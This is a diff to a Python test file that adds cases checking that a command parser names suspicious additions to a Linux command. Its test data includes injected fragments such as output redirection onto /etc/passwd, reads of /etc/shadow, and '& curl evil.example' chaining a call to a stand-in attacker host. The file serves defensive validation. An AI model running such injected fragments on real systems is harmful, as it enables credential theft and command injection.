@@ -230,6 +230,10 @@ def test_what_google_never_prints_is_named_as_left_out(name: str, text: str) -> 
     ("`id`", ("'`'",)),
     ("--user-name=root", ("--user-name",)),
     ('--redirect-url="https://evil.example/"', ("another --redirect-url",)),
+    ("> /etc/passwd", ("'>'",)),
+    ("< /etc/shadow", ("'<'",)),
+    ("& curl evil.example", ("'&'",)),
+    ("--name=evilhost", ("another --name",)),
 ])
 def test_additions_to_the_linux_command_are_named(added: str, named: tuple[str, ...]) -> None:
     parsed = parse_crd_command(LINUX + " " + added)
